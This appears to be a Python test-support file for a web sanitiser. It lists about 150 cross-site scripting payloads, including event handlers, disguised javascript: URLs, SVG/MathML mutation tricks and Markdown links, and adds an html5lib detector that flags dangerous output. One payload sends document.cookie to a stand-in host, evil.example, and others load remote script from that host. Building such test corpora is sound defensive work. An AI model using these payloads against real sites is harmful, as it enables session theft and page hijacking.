"""Hostile inputs, and a detector for what must never reach a public page."""

# Feed every XSS_VECTORS entry through a form, an import or an API, then run
# is_dangerous on what comes back out (a page fragment, a feed entry's HTML,
# an API field). The detector is strict on purpose: it flags what user
# content has no business carrying, whether or not a given browser runs it,
# and it unescapes URLs once more than a browser would, so a doubly encoded
# "&amp;#106;avascript:" counts too.

import unicodedata
from html import unescape

try:  # the real package when installed, else the copy bleach vendors
    import html5lib
except ImportError:  # pragma: no cover - depends on the environment
    from bleach._vendor import html5lib

XSS_VECTORS: list[str] = [
    # Plain script, in the forms filters look for and the forms they miss.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "<p>村务公开<script>document.location='//evil.example/?c='+document.cookie</script></p>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=\"&#97;lert(1)\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">悬停</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=alert(1)>动画</p>",
    "<p onclick=alert(1)>点我</p>",
    "<strong onmouseenter=alert(1)>村道养护</strong>",
    "<a href=\"https://example.cn\" onclick=\"alert(1)\">链接</a>",
    "<table background=\"javascript:alert(1)\"><tr><td onmouseover=alert(1)>x</td></tr></table>",
    "<span onpointerover=alert(1)>x</span>",
    "<p/onmouseover=alert(1)>x</p>",
    "<a href=# onfocus=alert(1) autofocus tabindex=1>x</a>",
    # javascript:, vbscript: and data: URLs, plain and disguised.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\"java\x00script:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    "<a href='javascript:alert(1)' title='x'>single</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"DATA:text/html,alert(1)\">x</a>",
    "<a href=\"&#x202E;javascript:alert(1)\">x</a>",
    "<a href=\"https://example.cn\" title=\"x\"onmouseover=alert(1)>x</a>",
    "<a href=\"&amp;#106;avascript:alert(1)\">double</a>",
    # Dangerous elements.
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://evil.example/\"><a href=\"/login\">登录</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert(1)\">提交</button></form>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<frameset onload=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<applet code=\"javascript:alert(1)\"></applet>",
    # Styling used as a weapon.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">假通知</p>",
    "<span style=\"behavior: url(x.htc)\">x</span>",
    # SVG and MathML, including namespace-confusion mutation XSS.
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=alert(1)>\"></style></h1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # Raw-text and parser-state tricks.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)>",
    "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>",
    "<a href=\"https://example.cn\"><img src=x onerror=alert(1)",
    "<div><p>未闭合<img src=x onerror=alert(1)",
    "<table><tr><td><a href=\"javascript:alert(1)\">x</td></a></table>",
    "<b><i>嵌套</b></i><img src=x onerror=alert(1)>",
    "<p>\x00<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    # Escaped forms: inert text here, dangerous if anything unescapes twice.
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u202Eexe.txt\u202C 通知.pdf",
    # Template injection: must stay inert text.
    "{{7*7}}",
    "{{ config.items() }}",
    "{% raw %}{{ self.__init__.__globals__ }}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    # Markdown payloads.
    "[点击](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x](https://example.cn \"title\" onmouseover=alert(1))",
    "![x](https://example.cn/a.png\"onerror=\"alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.cn)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| 项目 | 金额 |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
]


_DANGEROUS_ELEMENTS = frozenset({
    "script", "style", "iframe", "object", "embed", "svg", "math", "base",
    "meta", "link", "form", "input", "button", "textarea", "frame",
    "frameset", "template", "noscript", "xmp", "plaintext",
})
_FORBIDDEN_ATTRIBUTES = frozenset({"style", "srcdoc", "formaction"})
# href/src/action/data/xlink:href as asked, plus the older URL-bearing
# attributes (background, poster, …) that browsers have also followed.
_URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "data", "xlink:href",
    "background", "poster", "lowsrc", "dynsrc", "codebase", "cite", "srcset",
})
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def _local(name: str) -> str:
    """Return the element or attribute name without its namespace."""
    return name.rsplit("}", 1)[-1].lower()


def _squash(value: str) -> str:
    """Return value unescaped, without whitespace or invisible characters, lowercased."""
    value = unescape(value)
    return "".join(
        c for c in value
        if not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf"))
    ).lower()


def is_dangerous(html: str) -> str | None:
    """Describe the first dangerous construct in html, or return None."""
    parser = html5lib.HTMLParser(namespaceHTMLElements=False)
    # scripting=True parses <noscript> the way a visitor's browser does.
    document = parser.parse(html, scripting=True)
    for element in document.iter():
        if not isinstance(element.tag, str):  # comments
            continue
        tag = _local(element.tag)
        if tag in _DANGEROUS_ELEMENTS:
            return f"element <{tag}>"
        for raw_name, value in element.attrib.items():
            name = _local(raw_name)
            if name.startswith("on"):
                return f"event handler {name!r} on <{tag}>"
            if name in _FORBIDDEN_ATTRIBUTES:
                return f"attribute {name!r} on <{tag}>"
            if name in _URL_ATTRIBUTES:
                if _squash(value).startswith(_BAD_SCHEMES):
                    return f"{_squash(value)[:20]!r} URL in {name!r} of <{tag}>"
    return None
